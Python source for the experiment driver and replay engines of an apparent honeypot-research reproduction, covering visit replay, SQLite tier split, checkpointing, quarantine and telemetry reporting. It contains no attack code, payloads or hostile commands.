        counts = {"event_type": Counter(), "dbms": Counter(),
                  "interaction": Counter(), "honeypot_id": Counter()}
    for event in store:
        if event.interaction == "low":
            low_events.append(event)
        else:
            midhigh_events.append(event)
        if counts is not None:
            counts["event_type"][event.event_type] += 1
            counts["dbms"][event.dbms] += 1
            counts["interaction"][event.interaction] += 1
            counts["honeypot_id"][event.honeypot_id] += 1
    return low_events, midhigh_events, counts


def _finalize_report(config: ExperimentConfig, telemetry: obs.Telemetry,
                     result: ExperimentResult,
                     event_counts: dict[str, Counter] | None,
                     split: dict[str, int], bytes_io: dict[str, int],
                     wall_time: float, output_dir: Path) -> None:
    """Export the trace (if requested) and write ``run_report.json``."""
    trace_path = None
    if config.trace_out is not None:
        trace_path = Path(config.trace_out)
        if trace_path.suffix == ".jsonl":
            telemetry.tracer.export_jsonl(trace_path)
        else:
            telemetry.tracer.export_chrome(trace_path)
    event_counts = event_counts or {}
    manifest = {
        "schema": obs_report.SCHEMA,
        "generated_at": obs_report.utc_now_iso(),
        "config": {
            "seed": config.seed,
            "volume_scale": config.volume_scale,
            "output_dir": str(config.output_dir),
            "write_raw_logs": config.write_raw_logs,
            "export_dataset": config.export_dataset,
        },
        "wall_time_seconds": wall_time,
        "phases": telemetry.phases.as_dict(),
        "visits_total": result.visits_total,
        "events_total": result.events_total,
        "events_by_type": dict(event_counts.get("event_type", {})),
        "events_by_dbms": dict(event_counts.get("dbms", {})),
        "events_by_interaction": dict(event_counts.get("interaction", {})),
        "events_by_honeypot": dict(event_counts.get("honeypot_id", {})),
        "split": split,
        "db_rows": {"low": count_events(result.low_db),
                    "midhigh": count_events(result.midhigh_db)},
        "bytes": bytes_io,
        "peak_rss_bytes": obs_report.peak_rss_bytes(),
        "resilience": {
            "events_generated": result.events_generated,
            "events_stored": result.events_total,
            "events_quarantined": result.events_quarantined,
            "quarantined_visits": result.quarantined_visits,
            "conservation_ok": result.conservation_ok,
            "dead_letter": (str(result.quarantine_path)
                            if result.quarantine_path else None),
            "fault_plan": (config.fault_plan.name
                           if config.fault_plan else None),
            "faults": faults.current().snapshot(),
        },
        "metrics": telemetry.metrics.snapshot(),
        "trace": {"spans": len(telemetry.tracer.spans),
                  "path": str(trace_path) if trace_path else None},
    }
    result.report = manifest
    result.report_path = obs_report.write_report(
        manifest, output_dir / obs_report.REPORT_FILENAME)
    result.trace_path = trace_path


def _compile_visits(world: World, plan: DeploymentPlan,
                    seed: int) -> list[tuple[float, str, int, Visit]]:
    """Expand all actors into one time-ordered visit schedule."""
    schedule: list[tuple[float, str, int, Visit]] = []
    for actor in world.actors:
        for sequence, visit in enumerate(actor.compile(plan, seed)):
            schedule.append((visit.time_offset, actor.ip, sequence, visit))
    schedule.sort(key=lambda item: (item[0], item[1], item[2]))
    return schedule
