"""The experiment driver: replay 20 days of attacks, run the pipeline.

Mirrors the paper's data flow end to end (Figure 1): actors speak wire
protocols to the honeypots, honeypots emit log events, the conversion
step enriches them with GeoIP/ASN/institutional metadata and writes
SQLite databases -- one for the low-interaction tier (Section 5) and one
for the medium/high tier (Section 6), which is how the paper analyzes
them.

The driver is a thin loop over two abstractions:

* a :class:`~repro.deployment.replay.ReplayEngine` (serial, or sharded
  across ``config.workers`` workers) produces visit outcomes in
  canonical ``(offset, ip, seq)`` order, and
* a sink pipeline (:mod:`repro.pipeline.sinks`) consumes each stored
  event exactly once -- tier split, SQLite conversions (each on its own
  writer thread, so both run concurrently), raw logs, dataset buffer,
  manifest tallies.

Crashed visits never reach the pipeline: their buffered events go to
the dead letter with the failure reason, preserving the conservation
invariant ``events_generated == events_stored + events_quarantined``.

With ``ExperimentConfig.telemetry`` enabled the run is fully
instrumented -- per-phase wall times, per-visit spans, event counts per
type/DBMS/interaction/honeypot, bytes exchanged, DB row counts, peak
RSS, replay-shard statistics -- and a ``run_report.json`` manifest is
written next to the SQLite databases (``repro stats`` pretty-prints
it).  Disabled (the default), every hook is a no-op.
"""

from __future__ import annotations

import os
import sys
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

from repro import obs
from repro.agents.population import World, build_world
from repro.deployment.checkpoint import (Checkpointer, ResumeError,
                                         ResumeState, prepare_resume)
from repro.deployment.plan import DeploymentPlan, build_plan
from repro.deployment.replay import (OpsOptions, ReplayEngine,
                                     build_engine, compile_visits,
                                     schedule_digest)
from repro.obs import live as obs_live
from repro.obs import logging as obs_logging
from repro.obs import report as obs_report
from repro.pipeline.convert import count_events
from repro.pipeline.sinks import (BufferSink, CountingSink, RawLogSink,
                                  SQLiteWriterSink, TeeSink, TierSplitSink)
from repro.resilience import faults
from repro.resilience.deadletter import DeadLetterWriter
from repro.runtime.journal import RunJournal

#: Dead-letter file for quarantined visits, written under the run's
#: output directory (only when something was actually quarantined).
QUARANTINE_FILENAME = "quarantine.jsonl"

#: Consolidated raw-log directory under the output dir (Figure 1 ②).
RAW_LOG_DIRNAME = "raw-logs"

#: Structured operational log (JSONL, correlation-id fields), written
#: under the output directory of every telemetry run.
OPS_LOG_FILENAME = "ops.jsonl"

#: Crash flight-recorder dump of the driver process (only written when
#: the run dies; replay workers write ``flight_shard<k>.jsonl``).
FLIGHT_FILENAME = "flight_driver.jsonl"

_DONE = object()


@dataclass(frozen=True)
class ExperimentConfig:
    """Knobs of one experiment run."""

    seed: int = 2024
    #: Multiplier on login volumes (IP counts are never scaled).
    volume_scale: float = 0.002
    output_dir: Path = Path("experiment-output")
    #: Also persist the consolidated JSON-lines raw logs (Figure 1 ②).
    write_raw_logs: bool = False
    #: Also export the anonymized public dataset (Appendix B).
    export_dataset: bool = False
    #: Instrument the run and write ``run_report.json`` (see module doc).
    telemetry: bool = False
    #: With telemetry, also export the span trace here (``.jsonl`` for
    #: JSON-lines, anything else for Chrome trace-event format).
    trace_out: Path | None = None
    #: Fault plan to install for the run (chaos mode); ``None`` runs
    #: clean.  See :mod:`repro.resilience.faults`.
    fault_plan: faults.FaultPlan | None = None
    #: Replay parallelism: 1 replays serially, N > 1 shards the visit
    #: schedule by target honeypot across N workers (same events, same
    #: order; see :mod:`repro.deployment.replay`).
    workers: int = 1
    #: Replay engine: ``"auto"`` (serial for 1 worker, sharded
    #: otherwise), ``"serial"``, or ``"sharded"``.
    executor: str = "auto"
    #: Sharded-replay worker flavor: ``"auto"`` (fork where available,
    #: thread otherwise), ``"fork"``, or ``"thread"``.  Ignored by the
    #: serial engine.
    pool: str = "auto"
    #: Seconds between live shard-telemetry emissions (0 disables the
    #: metrics bus; requires telemetry and a sharded replay to matter).
    live_interval: float = 0.0
    #: Serve ``/metrics`` + ``/healthz`` on this loopback port for the
    #: duration of the run (requires telemetry; implies a default
    #: ``live_interval`` of 0.5s on sharded replays).
    live_port: int | None = None
    #: Seconds between durable checkpoints.  0 (the default) disables
    #: the run journal and every fsync barrier -- the hot path is
    #: byte-for-byte the uncheckpointed one.
    checkpoint_interval: float = 0.0
    #: Resume a crashed checkpointed run at ``output_dir``: ``None``
    #: (fresh run), ``"latest"`` (strict -- refuse on any journal or
    #: database damage beyond a torn tail), or ``"force"`` (fall back
    #: to the newest checkpoint that validates, or scratch).
    resume: str | None = None


@dataclass
class ExperimentResult:
    """Everything a downstream analysis needs."""

    config: ExperimentConfig
    plan: DeploymentPlan
    world: World
    low_db: Path
    midhigh_db: Path
    events_total: int
    visits_total: int
    raw_log_dir: Path | None = None
    dataset_dir: Path | None = None
    #: The telemetry manifest (and its path), when enabled.
    report: dict | None = None
    report_path: Path | None = None
    trace_path: Path | None = None
    #: Conservation accounting: every generated event is either stored
    #: (``events_total``) or quarantined with its crashed visit.
    events_generated: int = 0
    events_quarantined: int = 0
    quarantined_visits: int = 0
    quarantine_path: Path | None = None
    #: Checkpoint/resume accounting (checkpointed runs only).
    resumed: bool = False
    checkpoints_taken: int = 0
    fast_forwarded_visits: int = 0
    journal_path: Path | None = None

    @property
    def conservation_ok(self) -> bool:
        """``events_generated == events_stored + events_quarantined``."""
        return (self.events_generated
                == self.events_total + self.events_quarantined)


def run_experiment(config: ExperimentConfig = ExperimentConfig()
                   ) -> ExperimentResult:
    """Run the full deployment window and produce the SQLite databases."""
    if config.export_dataset and (config.checkpoint_interval > 0
                                  or config.resume):
        raise ValueError(
            "dataset export buffers every event in memory and cannot "
            "be checkpointed or resumed")
    resume_state = None
    if config.resume:
        # Validate the journal, adopt the crashed run's identity, and
        # truncate every output back to its last durable checkpoint
        # before any sink opens a file.
        resume_state, config = prepare_resume(config)
    telemetry = obs.Telemetry(enabled=config.telemetry)
    #: One correlation id per run, bound into every ops-log record the
    #: run emits (driver and workers alike) and stamped into the
    #: manifest.  Operational identity only -- nothing derived from it
    #: touches the replayed event stream.  A resume keeps the crashed
    #: run's id: it is the same run, continued.
    run_id = (resume_state.run_id if resume_state is not None
              and resume_state.run_id else uuid.uuid4().hex[:12])
    output_dir = Path(config.output_dir)
    output_dir.mkdir(parents=True, exist_ok=True)
    if telemetry.enabled:
        telemetry.logger.attach_path(output_dir / OPS_LOG_FILENAME)
    try:
        with obs.install(telemetry), faults.install(config.fault_plan), \
                obs_logging.bind(run_id=run_id), \
                telemetry.flight.armed(output_dir / FLIGHT_FILENAME):
            return _run_instrumented(config, telemetry, run_id,
                                     resume_state)
    finally:
        telemetry.logger.close()


def _journal_header(config: ExperimentConfig, run_id: str,
                    visits_total: int, digest: str) -> dict:
    """The run-identity record a resume adopts from the journal."""
    fault = None
    if config.fault_plan is not None:
        fault = {"name": config.fault_plan.name,
                 "seed": config.fault_plan.seed,
                 "sites": config.fault_plan.site_options()}
    return {
        "run_id": run_id,
        "seed": config.seed,
        "volume_scale": config.volume_scale,
        "write_raw_logs": config.write_raw_logs,
        "export_dataset": config.export_dataset,
        "fault": fault,
        "checkpoint_interval": config.checkpoint_interval,
        "visits_total": visits_total,
        "schedule_digest": digest,
        "created_at": obs_report.utc_now_iso(),
    }


def _open_journal(config: ExperimentConfig, run_id: str,
                  visits_total: int, digest: str, output_dir: Path,
                  resume_state: ResumeState | None) -> RunJournal | None:
    """Create (fresh run) or rewrite + mark (resume) the run journal."""
    if resume_state is None:
        if config.checkpoint_interval <= 0:
            return None
        return RunJournal.create(
            output_dir,
            _journal_header(config, run_id, visits_total, digest))
    if resume_state.records:
        # Supersede the crashed journal with its adopted prefix
        # (header + the checkpoints at or below the restore point),
        # discarding torn tails and any stale later checkpoints whose
        # rows the resume preparation just truncated away.
        journal = RunJournal.rewrite(output_dir, resume_state.records)
    else:
        # Force-scratch with an unreadable header: start over.
        journal = RunJournal.create(
            output_dir,
            _journal_header(config, run_id, visits_total, digest))
    journal.resume_marker({
        "mode": resume_state.mode,
        "from_seq": resume_state.from_seq,
        "watermark": (list(resume_state.watermark)
                      if resume_state.watermark else None),
        "disarmed": resume_state.disarmed_sites,
        "torn_tail": resume_state.torn_tail,
        "dropped": resume_state.dropped_records,
        "at": obs_report.utc_now_iso(),
    })
    return journal


def _run_instrumented(config: ExperimentConfig, telemetry: obs.Telemetry,
                      run_id: str,
                      resume_state: ResumeState | None = None
                      ) -> ExperimentResult:
    wall_start = time.perf_counter()
    phases = telemetry.phases
    span = telemetry.tracer.span
    logger = telemetry.logger
    logger.info("run.start", seed=config.seed, scale=config.volume_scale,
                workers=config.workers,
                output=str(config.output_dir))

    with phases.phase("build_plan"):
        plan = build_plan(config.seed)
    with phases.phase("build_world"):
        world = build_world(config.seed, config.volume_scale)
    with phases.phase("compile_visits"):
        schedule = compile_visits(world, plan, config.seed)

    output_dir = Path(config.output_dir)
    output_dir.mkdir(parents=True, exist_ok=True)

    engine = build_engine(config.workers, config.executor, config.pool)
    visits_total = len(schedule)

    # -- run journal (checkpointed and resumed runs only) --------------
    journal = None
    checkpointing = config.checkpoint_interval > 0 or \
        resume_state is not None
    if checkpointing:
        digest = schedule_digest(schedule)
        if resume_state is not None and resume_state.schedule_digest \
                and resume_state.schedule_digest != digest:
            raise ResumeError(
                f"compiled visit schedule (digest {digest[:12]}...) "
                f"does not match the journal's "
                f"({resume_state.schedule_digest[:12]}...); the code "
                f"or inputs changed since the run crashed -- the "
                f"committed prefix cannot be fast-forwarded")
        journal = _open_journal(config, run_id, visits_total, digest,
                                output_dir, resume_state)

    # -- live operations plane -----------------------------------------
    # The bus interval: an explicit config wins; exposing a port
    # implies a default cadence so /metrics is never a whole-run
    # staleness window behind.
    live_interval = config.live_interval
    if config.live_port is not None and live_interval <= 0:
        live_interval = 0.5
    live_on = telemetry.enabled and live_interval > 0 and engine.workers > 1
    aggregator = obs_live.LiveAggregator() if live_on else None
    reporter = None
    if live_on:
        reporter = _LiveReporter(output_dir / obs_report.REPORT_FILENAME,
                                 run_id, visits_total, engine.workers)
    ops = OpsOptions(
        live=live_on, emit_interval=live_interval,
        aggregator=aggregator, on_message=reporter,
        trace_shards=config.trace_out is not None,
        flight_dir=output_dir if telemetry.enabled else None,
        run_id=run_id,
        # Checkpointing needs outcomes streamed as they complete (a
        # barrier that waits for every shard would mean zero durable
        # progress until the very end), and a resume needs every shard
        # to fast-forward past the committed watermark.
        stream_outcomes=journal is not None,
        watermark=(resume_state.watermark
                   if resume_state is not None else None))
    live_server = None
    if config.live_port is not None and telemetry.enabled:
        live_server = obs_live.LiveOpsServer(
            lambda: _combined_snapshot(telemetry, aggregator),
            lambda: _run_health(run_id, visits_total, engine, aggregator),
            port=config.live_port)
        live_server.start()
        logger.info("live.listening", port=live_server.port)

    try:
        return _run_replay(config, telemetry, run_id, plan, world,
                           schedule, engine, ops, output_dir,
                           wall_start, live_server, reporter,
                           journal=journal, resume_state=resume_state)
    finally:
        if live_server is not None:
            live_server.close()
        if journal is not None:
            journal.close()


def _run_replay(config: ExperimentConfig, telemetry: obs.Telemetry,
                run_id: str, plan: DeploymentPlan, world: World,
                schedule, engine: ReplayEngine, ops: OpsOptions,
                output_dir: Path, wall_start: float,
                live_server, reporter, journal=None,
                resume_state: ResumeState | None = None
                ) -> ExperimentResult:
    phases = telemetry.phases
    span = telemetry.tracer.span
    logger = telemetry.logger
    visits_total = len(schedule)
    durable = journal is not None
    resuming = resume_state is not None and \
        resume_state.watermark is not None

    # A resumed run's committed prefix re-plays with its per-visit
    # metrics muted (the sinks never see those events again); the
    # driver-side metrics the crashed run durably recorded come back
    # from the journal's per-checkpoint deltas instead.
    if resuming and telemetry.enabled:
        for delta in resume_state.metrics:
            telemetry.metrics.merge(delta)

    # -- the sink pipeline: every stored event flows through once ------
    tier = TierSplitSink(
        SQLiteWriterSink(output_dir / "low.sqlite",
                         world.geoip, world.scanners,
                         durable=durable,
                         resume=resume_state.low if resuming else None),
        SQLiteWriterSink(output_dir / "midhigh.sqlite",
                         world.geoip, world.scanners,
                         durable=durable,
                         resume=(resume_state.midhigh if resuming
                                 else None)))
    if resuming:
        # The committed rows never re-enter the split; seed its tallies
        # so ``events_total`` still covers the whole run.
        tier.low_count = resume_state.low[0]
        tier.midhigh_count = resume_state.midhigh[0]
    sinks: list = [tier]
    counting = None
    if telemetry.enabled:
        counting = CountingSink()
        if resuming and resume_state.counting:
            counting.restore(resume_state.counting)
        sinks.append(counting)
    raw_sink = None
    if config.write_raw_logs:
        raw_sink = RawLogSink(
            output_dir / RAW_LOG_DIRNAME,
            resume=resume_state.raw if resuming else None)
        sinks.append(raw_sink)
    dataset_buffer = None
    if config.export_dataset:
        dataset_buffer = BufferSink()
        sinks.append(dataset_buffer)
    pipeline = TeeSink(*sinks)

    dead_letters = DeadLetterWriter(
        output_dir / QUARANTINE_FILENAME,
        resume=resume_state.dead_letter if resuming else None)
    metrics = telemetry.metrics
    bytes_in = 0
    bytes_out = 0
    events_generated = 0
    events_quarantined = 0
    quarantined_visits = 0
    visits_done = 0
    fast_forwarded = 0

    checkpointer = None
    if durable:
        checkpointer = Checkpointer(
            journal, tier, raw_sink, dead_letters, counting, telemetry,
            faults.current() if config.fault_plan is not None else None,
            interval=config.checkpoint_interval)

    # The replay engine and the sink pipeline interleave on this
    # thread, so the loop splits its time manually: pulling the next
    # outcome is "replay", feeding its events through the sinks is
    # "split" (sharded engines do all pool work inside the first pull).
    mark = time.perf_counter()
    stream = iter(engine.replay(schedule, plan, config.seed, telemetry,
                                ops))
    last_key = None
    pending_live = False
    # Live events accumulate driver-side and enter the pipeline in
    # batches: one `pipeline.many()` per ~1k events instead of one
    # Python call chain per event.  Durable runs flush every visit so
    # checkpoint barriers always cover everything the replay yielded.
    event_batch: list = []
    flush_at = 1 if durable else 1024
    try:
        while True:
            outcome = next(stream, _DONE)
            now = time.perf_counter()
            phases.add("replay", now - mark)
            mark = now
            if outcome is _DONE:
                break
            visits_done += 1
            last_key = outcome.key
            events_generated += outcome.event_total()
            bytes_in += outcome.bytes_in
            bytes_out += outcome.bytes_out
            if outcome.committed:
                # Fast-forwarded by a resume: events already durable
                # (and, for a crashed visit, already dead-lettered).
                fast_forwarded += 1
                if outcome.failure is not None:
                    quarantined_visits += 1
                    events_quarantined += outcome.event_total()
                mark = time.perf_counter()
                continue
            if outcome.failure is not None:
                # Quarantine: the crashed visit's events travel to the
                # dead letter, with the reason, instead of the pipeline.
                dead_letters.quarantine(
                    "visit", outcome.failure, actor=outcome.actor_ip,
                    seq=outcome.sequence, target=outcome.target_key,
                    offset=outcome.offset, events=outcome.events)
                metrics.inc("resilience.quarantined")
                metrics.inc("resilience.events_quarantined",
                            len(outcome.events))
                quarantined_visits += 1
                events_quarantined += len(outcome.events)
            else:
                event_batch.extend(outcome.events)
                if len(event_batch) >= flush_at:
                    pipeline.many(event_batch)
                    event_batch.clear()
                now = time.perf_counter()
                phases.add("split", now - mark)
            pending_live = True
            if checkpointer is not None:
                if checkpointer.maybe_checkpoint(
                        watermark=last_key, visits_done=visits_done,
                        counters=_loop_counters(
                            events_generated, events_quarantined,
                            quarantined_visits, bytes_in, bytes_out)):
                    pending_live = False
                    _write_partial_report(
                        config, output_dir, run_id, visits_total,
                        visits_done, events_generated,
                        events_quarantined, checkpointer, journal)
            mark = time.perf_counter()
    except BaseException:
        if durable:
            # Leave only durably-committed state behind for a later
            # ``--resume`` to validate; never mask the original error.
            tier.low.abort()
            tier.midhigh.abort()
            try:
                dead_letters.close()
            except OSError:
                pass
        raise
    if event_batch:
        start = time.perf_counter()
        pipeline.many(event_batch)
        event_batch.clear()
        phases.add("split", time.perf_counter() - start)
    dead_letters.close()

    raw_log_dir = None
    if raw_sink is not None:
        with phases.phase("write_raw_logs"), span("write_raw_logs"):
            raw_sink.close()
            raw_log_dir = raw_sink.directory
    dataset_dir = None
    if dataset_buffer is not None:
        with phases.phase("export_dataset"), span("export_dataset"):
            from repro.pipeline.dataset import export_dataset

            dataset_dir = output_dir / "dataset"
            export_dataset(dataset_buffer, dataset_dir)

    # Both writer threads have been converting since their first event;
    # "convert" is the time left waiting for them to finish.  Durable
    # writers run their final commit barrier inside close(), so the
    # journal's ``complete`` record below only ever under-claims.
    with phases.phase("convert"):
        with span("convert", tier="low"):
            low_db = tier.low.close()
        with span("convert", tier="midhigh"):
            midhigh_db = tier.midhigh.close()

    if checkpointer is not None:
        checkpointer.complete(
            watermark=last_key, visits_done=visits_done,
            counters=_loop_counters(events_generated,
                                    events_quarantined,
                                    quarantined_visits, bytes_in,
                                    bytes_out))

    events_total = tier.low_count + tier.midhigh_count
    result = ExperimentResult(
        config=config, plan=plan, world=world, low_db=low_db,
        midhigh_db=midhigh_db, events_total=events_total,
        visits_total=visits_total, raw_log_dir=raw_log_dir,
        dataset_dir=dataset_dir,
        events_generated=events_generated,
        events_quarantined=events_quarantined,
        quarantined_visits=quarantined_visits,
        quarantine_path=(dead_letters.path if dead_letters.count
                         else None),
        resumed=resume_state is not None,
        checkpoints_taken=(checkpointer.count if checkpointer else 0),
        fast_forwarded_visits=fast_forwarded,
        journal_path=(journal.path if journal is not None else None))
    logger.info("run.done", visits=visits_total,
                events_stored=events_total,
                events_quarantined=events_quarantined,
                checkpoints=result.checkpoints_taken,
                resumed=result.resumed)
    if telemetry.enabled:
        wall_time = time.perf_counter() - wall_start
        _finalize_report(config, telemetry, result, engine,
                         event_counts=(counting.counts if counting
                                       else None),
                         split={"low": tier.low_count,
                                "midhigh": tier.midhigh_count},
                         bytes_io={"in": bytes_in, "out": bytes_out},
                         wall_time=wall_time, output_dir=output_dir,
                         run_id=run_id, live_server=live_server,
                         reporter=reporter,
                         checkpoint_info=_checkpoint_info(
                             config, checkpointer, resume_state,
                             fast_forwarded, result))
    return result


def _loop_counters(events_generated: int, events_quarantined: int,
                   quarantined_visits: int, bytes_in: int,
                   bytes_out: int) -> dict:
    """The driver-loop tallies recorded in every checkpoint."""
    return {"events_generated": events_generated,
            "events_quarantined": events_quarantined,
            "quarantined_visits": quarantined_visits,
            "bytes_in": bytes_in, "bytes_out": bytes_out}


def _checkpoint_info(config: ExperimentConfig, checkpointer,
                     resume_state: ResumeState | None,
                     fast_forwarded: int,
                     result: ExperimentResult) -> dict | None:
    """The manifest's ``checkpoint`` section (checkpointed runs only)."""
    if checkpointer is None:
        return None
    info = {
        "interval_seconds": config.checkpoint_interval,
        "count": checkpointer.count,
        "barrier_seconds": checkpointer.barrier_seconds,
        "journal": (str(result.journal_path)
                    if result.journal_path else None),
        "resume": None,
    }
    if resume_state is not None:
        info["resume"] = {
            "mode": resume_state.mode,
            "from_checkpoint": resume_state.from_seq,
            "watermark": (list(resume_state.watermark)
                          if resume_state.watermark else None),
            "fast_forwarded_visits": fast_forwarded,
            "disarmed_sites": resume_state.disarmed_sites,
            "torn_tail": resume_state.torn_tail,
            "dropped_records": resume_state.dropped_records,
        }
    return info


def _combined_snapshot(telemetry: obs.Telemetry, aggregator) -> dict:
    """What ``/metrics`` serves during a run: the driver's registry
    folded with the live aggregate streamed from the shards."""
    combined = obs.MetricsRegistry()
    combined.merge(telemetry.metrics)
    if aggregator is not None:
        combined.merge(aggregator.registry)
    return combined.snapshot()


def _run_health(run_id: str, visits_total: int, engine: ReplayEngine,
                aggregator) -> dict:
    """What ``/healthz`` serves during a run."""
    health = {"status": "ok", "mode": "run", "run_id": run_id,
              "visits_total": visits_total, "workers": engine.workers,
              "executor": engine.name}
    if aggregator is not None:
        health["progress"] = aggregator.progress()
    return health


class _LiveReporter:
    """Bus callback: progress lines + incremental manifest snapshots.

    Runs on the bus drainer thread.  Progress goes to stderr (stdout
    stays byte-stable for scripts); the partial ``run_report.json``
    carries ``"partial": true`` plus the live aggregate so an operator
    -- or ``repro stats`` after a crash -- sees how far the run got.
    The final manifest overwrites it on clean completion.
    """

    def __init__(self, path: Path, run_id: str, visits_total: int,
                 workers: int, *, stream=None,
                 line_interval: float = 1.0,
                 snapshot_interval: float = 2.0,
                 clock=time.perf_counter):
        self.path = path
        self.run_id = run_id
        self.visits_total = visits_total
        self.workers = workers
        self.lines = 0
        self.snapshots = 0
        self._stream = stream if stream is not None else sys.stderr
        self._line_interval = line_interval
        self._snapshot_interval = snapshot_interval
        self._clock = clock
        self._last_line = -line_interval
        self._last_snapshot = -snapshot_interval

    def __call__(self, aggregator, message: dict) -> None:
        now = self._clock()
        done = bool(message.get("done"))
        if done or now - self._last_line >= self._line_interval:
            progress = aggregator.progress()
            print(f"live: {progress['visits']:,}/"
                  f"{self.visits_total:,} visits  "
                  f"{progress['events']:,} events  "
                  f"{progress['shards_done']}/{self.workers} "
                  f"shards done", file=self._stream)
            self._last_line = now
            self.lines += 1
        if done or now - self._last_snapshot >= self._snapshot_interval:
            obs_report.write_report({
                "schema": obs_report.SCHEMA,
                "partial": True,
                "run_id": self.run_id,
                "generated_at": obs_report.utc_now_iso(),
                "visits_total": self.visits_total,
                "progress": aggregator.progress(),
                "metrics": aggregator.snapshot(),
            }, self.path)
            self._last_snapshot = now
            self.snapshots += 1


def _write_partial_report(config: ExperimentConfig, output_dir: Path,
                          run_id: str,
                          visits_total: int, visits_done: int,
                          events_generated: int, events_quarantined: int,
                          checkpointer, journal) -> None:
    """Refresh a ``"partial": true`` manifest at every checkpoint.

    A killed checkpointed run then still answers ``repro stats`` with
    how far it durably got; the final manifest overwrites this on
    clean completion.  Written atomically -- a crash mid-write must
    not leave a torn manifest behind.
    """
    manifest = {
        "schema": obs_report.SCHEMA,
        "partial": True,
        "run_id": run_id,
        "generated_at": obs_report.utc_now_iso(),
        "config": {"seed": config.seed,
                   "volume_scale": config.volume_scale,
                   "output_dir": str(output_dir),
                   "workers": config.workers},
        "visits_total": visits_total,
        "progress": {"visits": visits_done,
                     "events_generated": events_generated,
                     "events_quarantined": events_quarantined},
        "checkpoint": {"count": checkpointer.count,
                       "journal": str(journal.path)},
    }
    path = output_dir / obs_report.REPORT_FILENAME
    tmp = path.with_name(path.name + ".tmp")
    obs_report.write_report(manifest, tmp)
    os.replace(tmp, path)


def _finalize_report(config: ExperimentConfig, telemetry: obs.Telemetry,
                     result: ExperimentResult, engine: ReplayEngine,
                     event_counts: dict | None,
                     split: dict[str, int], bytes_io: dict[str, int],
                     wall_time: float, output_dir: Path,
                     run_id: str | None = None, live_server=None,
                     reporter=None, checkpoint_info=None) -> None:
    """Export the trace (if requested) and write ``run_report.json``."""
    trace_path = None
    if config.trace_out is not None:
        trace_path = Path(config.trace_out)
        if trace_path.suffix == ".jsonl":
            telemetry.tracer.export_jsonl(trace_path)
        else:
            telemetry.tracer.export_chrome(trace_path)
    event_counts = event_counts or {}
    live_stats = engine.stats.get("live")
    live = None
    if live_stats is not None or live_server is not None:
        live = dict(live_stats or {})
        live["port"] = live_server.port if live_server else None
        live["http_requests"] = (live_server.requests
                                 if live_server else 0)
        if reporter is not None:
            live["progress_lines"] = reporter.lines
            live["partial_snapshots"] = reporter.snapshots
    manifest = {
        "schema": obs_report.SCHEMA,
        "generated_at": obs_report.utc_now_iso(),
        # A final manifest always supersedes the incremental snapshots
        # the live reporter wrote with ``"partial": true``.
        "partial": False,
        "run_id": run_id,
        "config": {
            "seed": config.seed,
            "volume_scale": config.volume_scale,
            "output_dir": str(config.output_dir),
            "write_raw_logs": config.write_raw_logs,
            "export_dataset": config.export_dataset,
            "telemetry": config.telemetry,
            "trace_out": (str(config.trace_out)
                          if config.trace_out else None),
            "fault_plan": (config.fault_plan.name
                           if config.fault_plan else None),
            "workers": config.workers,
            "executor": config.executor,
            "pool": config.pool,
            "live_interval": config.live_interval,
            "live_port": config.live_port,
            "checkpoint_interval": config.checkpoint_interval,
            "resume": config.resume,
        },
        "wall_time_seconds": wall_time,
        "phases": telemetry.phases.as_dict(),
        "visits_total": result.visits_total,
        "events_total": result.events_total,
        "events_by_type": dict(event_counts.get("event_type", {})),
        "events_by_dbms": dict(event_counts.get("dbms", {})),
        "events_by_interaction": dict(event_counts.get("interaction", {})),
        "events_by_honeypot": dict(event_counts.get("honeypot_id", {})),
        "split": split,
        "db_rows": {"low": count_events(result.low_db),
                    "midhigh": count_events(result.midhigh_db)},
        "bytes": bytes_io,
        "peak_rss_bytes": obs_report.peak_rss_bytes(),
        "replay": engine.stats,
        "resilience": {
            "events_generated": result.events_generated,
            "events_stored": result.events_total,
            "events_quarantined": result.events_quarantined,
            "quarantined_visits": result.quarantined_visits,
            "conservation_ok": result.conservation_ok,
            "dead_letter": (str(result.quarantine_path)
                            if result.quarantine_path else None),
            "fault_plan": (config.fault_plan.name
                           if config.fault_plan else None),
            "faults": faults.current().snapshot(),
        },
        "checkpoint": checkpoint_info,
        "live": live,
        "ops_log": OPS_LOG_FILENAME,
        "flight": {"capacity": telemetry.flight.capacity,
                   "records": len(telemetry.flight.records())},
        "metrics": telemetry.metrics.snapshot(),
        "trace": {"spans": len(telemetry.tracer.spans),
                  "path": str(trace_path) if trace_path else None},
    }
    result.report = manifest
    result.report_path = obs_report.write_report(
        manifest, output_dir / obs_report.REPORT_FILENAME)
    result.trace_path = trace_path
