"""Replay engines: serial and sharded execution of the visit schedule.

The compiled schedule is a time-ordered list of
``(offset, actor_ip, sequence, Visit)`` tuples.  A replay engine turns
it into an ordered stream of :class:`VisitOutcome` objects -- one per
visit, carrying the events the visit emitted, its byte counters, and
its failure (if the visit crashed and was quarantined).  The driver
consumes that stream once, feeding events straight into the sink
pipeline.

Two engines:

* :class:`SerialExecutor` -- one thread, visits in schedule order; the
  exact behavior of the original monolithic loop.
* :class:`ShardedExecutor` -- partitions the schedule by *target
  honeypot* (``crc32(target_key) % workers``), replays each shard on
  its own worker, and merges the per-shard outcome streams back into
  canonical ``(offset, ip, seq)`` order.

Partitioning by target is what makes the parallel run *deterministic*
with respect to the serial one.  The actor side is stateless across
visits: every per-visit random stream derives from
``{seed}:{ip}:{seq}`` (visit RNGs) or ``{seed}:{site}:{ip}:{seq}``
(keyed fault decisions such as ``visit.crash``), so a visit's behavior
does not depend on where or when its actor's other visits run.  The
honeypot side is *stateful* across sessions -- attacks wipe keyspaces,
drop ransom notes, load modules, and later visitors (e.g. the
fake-data-aware scouts that ``TYPE`` every surviving key) react to
what they find -- so correctness requires that each honeypot see
exactly the serial session sequence.  Keeping every visit to a target
on one worker, replayed in canonical ``(offset, ip, seq)`` order,
gives each honeypot the same session history as the serial engine;
with both sides pinned, shard assignment cannot change any visit's
outcome and the merged stream is element-for-element the serial
stream.

Workers prefer a ``fork``-context process pool (each worker inherits
the already-built plan and schedule copy-on-write, replays its shard,
and ships its outcomes back); where ``fork`` is unavailable the engine
falls back to threads, whose per-shard runtime contexts install
thread-locally (see :mod:`repro.runtime`).
"""

from __future__ import annotations

import heapq
import multiprocessing
import os
import queue as queue_module
import random
import signal
import sys
import time
import zlib
from collections import deque
from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Callable, Iterator, Sequence

from repro import obs
from repro.agents.base import Visit, VisitContext
